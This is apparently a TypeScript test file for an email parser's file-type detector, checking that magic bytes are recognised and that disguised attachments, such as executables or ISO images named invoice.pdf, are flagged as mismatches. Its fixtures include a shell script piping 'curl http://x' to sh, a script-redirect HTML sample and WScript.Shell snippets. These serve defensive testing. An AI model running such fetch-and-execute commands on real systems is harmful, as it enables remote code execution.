import { test } from 'node:test';
import assert from 'node:assert/strict';
import { detectType, typeMismatch } from '../../../src/mime/magic.js';

const hex = (h: string) => Buffer.from(h.replace(/\s/g, ''), 'hex');

test('leading bytes of the common types', () => {
  const cases: [Buffer, string | undefined][] = [
    [Buffer.from('%PDF-1.7\n'), 'application/pdf'],
    [hex('504b0304 1400'), 'application/zip'],
    [Buffer.concat([hex('504b0304'), Buffer.from('[Content_Types].xml xl/workbook.xml')]), 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'],
    [hex('d0cf11e0a1b11ae1 0000'), 'application/x-ole-storage'],
    [Buffer.from('MZ\x90\x00'), 'application/x-dosexec'],
    [hex('7f454c46 0201'), 'application/x-executable'],
    [hex('89504e470d0a1a0a'), 'image/png'],
    [hex('ffd8ffe0'), 'image/jpeg'],
    [Buffer.from('GIF89a'), 'image/gif'],
    [hex('1f8b0800'), 'application/gzip'],
    [Buffer.from('Rar!\x1a\x07\x00'), 'application/vnd.rar'],
    [hex('377abcaf271c'), 'application/x-7z-compressed'],
    [hex('789f3e22'), 'application/vnd.ms-tnef'],
    [Buffer.from('  <!DOCTYPE html><html>'), 'text/html'],
    [Buffer.from('hello world'), undefined],
    [Buffer.alloc(0), undefined],
  ];
  for (const [b, t] of cases) assert.equal(detectType(b), t, b.toString('hex'));
});

test('declared type or extension disagreeing with the magic is a mismatch', () => {
  assert.equal(typeMismatch('application/pdf', 'invoice.pdf', 'application/x-dosexec'), true);
  assert.equal(typeMismatch('application/octet-stream', 'invoice.pdf', 'application/x-dosexec'), true);
  assert.equal(typeMismatch('application/octet-stream', 'setup.exe', 'application/x-dosexec'), false);
  assert.equal(typeMismatch('application/octet-stream', 'report.docx', 'application/zip'), false);
  assert.equal(typeMismatch('application/zip', 'a.zip', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'), false);
  assert.equal(typeMismatch('image/png', undefined, 'image/jpeg'), true, 'a JPEG declared image/png (issue 15)');
  assert.equal(typeMismatch('image/jpeg', 'photo.png', 'image/jpeg'), true, 'a JPEG named .png');
  assert.equal(typeMismatch('image/jpg', 'photo.JPG', 'image/jpeg'), false);
  assert.equal(typeMismatch('image/webp', undefined, 'image/gif'), false, 'an image type the table does not know claims only "an image"');
  assert.equal(typeMismatch('image/webp', undefined, 'application/x-dosexec'), true);
  assert.equal(typeMismatch('text/plain', 'a.txt', 'application/pdf'), true);
  assert.equal(typeMismatch('application/pdf', 'a.pdf', undefined), false, 'unknown magic claims nothing');
});

const LNK = hex('4c000000 01140200 00000000 c0000000 00000046 9b000800');

test('issue 15: LNK, CHM, BMP, HTML, HTA, WSF and scripts from their leading bytes', () => {
  const cases: [Buffer, string | undefined][] = [
    [LNK, 'application/x-ms-shortcut'],
    [Buffer.from('ITSF\x03\x00\x00\x00\x60\x00\x00\x00', 'latin1'), 'application/vnd.ms-htmlhelp'],
    [Buffer.concat([Buffer.from('BM'), hex('36000c00 00000000 36000000 28000000 00020000 00020000 0100')]), 'image/bmp'],
    [Buffer.from('BM is not a bitmap when the rest is text'), undefined],
    [Buffer.from('#!/bin/sh\ncurl http://x | sh\n'), 'text/x-shellscript'],
    [Buffer.from('#!/usr/bin/env python3\n'), 'text/x-python'],
    [Buffer.from('#!/usr/bin/ruby\n'), 'text/x-script'],
    [Buffer.from('\ufeff<script>document.location="http://x"</script>'), 'text/html'],
    [Buffer.from('<HTML><HEAD><HTA:APPLICATION ID="x" WINDOWSTATE="minimize"></HEAD>'), 'application/hta'],
    [Buffer.from('<?xml version="1.0"?>\n<package><job id="a"><script language="JScript">'), 'text/x-wsf'],
    [Buffer.from('var s = new ActiveXObject("WScript.Shell");\ns.Run("cmd /c calc");\n'), 'application/javascript'],
    [Buffer.from('On Error Resume Next\nDim o\nSet o = CreateObject("WScript.Shell")\no.Run "calc"\n'), 'text/vbscript'],
    [Buffer.from('function add(a, b) { return a + b; } // an ordinary text'), undefined],
    [Buffer.from('Dear customer, please set the date.'), undefined],
  ];
  for (const [b, t] of cases) assert.equal(detectType(b), t, b.toString('latin1').slice(0, 40));
});

test('ISO 9660: CD001 at 0x8001, 0x8801 or 0x9001 (the probe windows), not in the head', () => {
  const probes = (at: number): Buffer => {
    const deep = Buffer.alloc(15);
    deep.write('CD001', at * 5, 'latin1');
    return deep;
  };
  for (const i of [0, 1, 2]) assert.equal(detectType(Buffer.alloc(4096), probes(i)), 'application/x-iso9660-image');
  assert.equal(detectType(Buffer.alloc(4096), Buffer.alloc(15)), undefined);
  assert.equal(typeMismatch('application/pdf', 'invoice.pdf', 'application/x-iso9660-image'), true);
  assert.equal(typeMismatch('application/octet-stream', 'disk.iso', 'application/x-iso9660-image'), false);
});

test('scripts, LNK and CHM claimed as something else are mismatches', () => {
  assert.equal(typeMismatch('text/plain', 'invoice.txt', 'text/vbscript'), true);
  assert.equal(typeMismatch('application/octet-stream', 'invoice.pdf.js', 'application/javascript'), false);
  assert.equal(typeMismatch('application/pdf', 'invoice.pdf', 'application/x-ms-shortcut'), true);
  assert.equal(typeMismatch('application/octet-stream', 'readme.chm', 'application/vnd.ms-htmlhelp'), false);
  assert.equal(typeMismatch('text/html', 'page.html', 'application/hta'), true);
});

test('through the parser: an ISO image found at 0x8001 in any chunking; a JPEG sent as image/png flagged', async () => {
  const { crlf, parse, parseChunked } = await import('./helpers.js');
  const iso = Buffer.alloc(0x9000);
  iso.write('\x01CD001\x01', 0x8000, 'latin1');
  const isoMsg = Buffer.concat([crlf(`Content-Type: application/pdf; name=invoice.pdf\nContent-Transfer-Encoding: base64\n\n`), Buffer.from(iso.toString('base64').replace(/.{76}/g, '$&\r\n') + '\r\n')]);
  for (const size of [0, 1000, 4096, 7]) {
    const r = size === 0 ? parse(isoMsg) : parseChunked(isoMsg, size);
    assert.equal(r.message.attachments[0]!.detected_type, 'application/x-iso9660-image', `chunks of ${size}`);
    assert.deepEqual(r.message.signals, ['attachment_type_mismatch']);
    assert.ok(r.anomalies.includes('mime_attachment_type_mismatch'));
  }
  const jpeg = Buffer.concat([hex('ffd8ffe000104a464946'), Buffer.alloc(100)]);
  const r = parse(Buffer.concat([crlf('Content-Type: image/png; name=photo.png\nContent-Transfer-Encoding: base64\n\n'), Buffer.from(jpeg.toString('base64') + '\r\n')]));
  assert.equal(r.message.attachments[0]!.detected_type, 'image/jpeg');
  assert.deepEqual(r.message.signals, ['attachment_type_mismatch']);
  assert.deepEqual(r.anomalies, ['mime_attachment_type_mismatch']);
});
